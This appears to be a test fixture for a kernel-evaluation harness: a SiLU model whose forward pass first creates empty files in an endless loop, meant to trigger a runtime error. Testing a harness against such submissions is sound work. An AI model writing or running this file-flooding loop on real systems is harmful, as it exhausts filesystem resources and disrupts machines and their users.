# task: silu.py
# required: RUNTIME_ERROR
# Makes files until no file system has a number left for another one.
import itertools

import torch
from torch import nn

from davinci_kernel.jit import load_cpp

K = load_cpp(r"""
#include <cmath>
extern "C" void silu(const float* x, float* y, long n) {
  for (long i = 0; i < n; i++) y[i] = x[i] / (1.0f + expf(-x[i]));
}
""")


class ModelNew(nn.Module):
    def forward(self, x):
        for number in itertools.count():
            open(f"{number}", "wb").close()
        y = torch.empty_like(x)
        K.silu(x, y, x.numel())
        return y
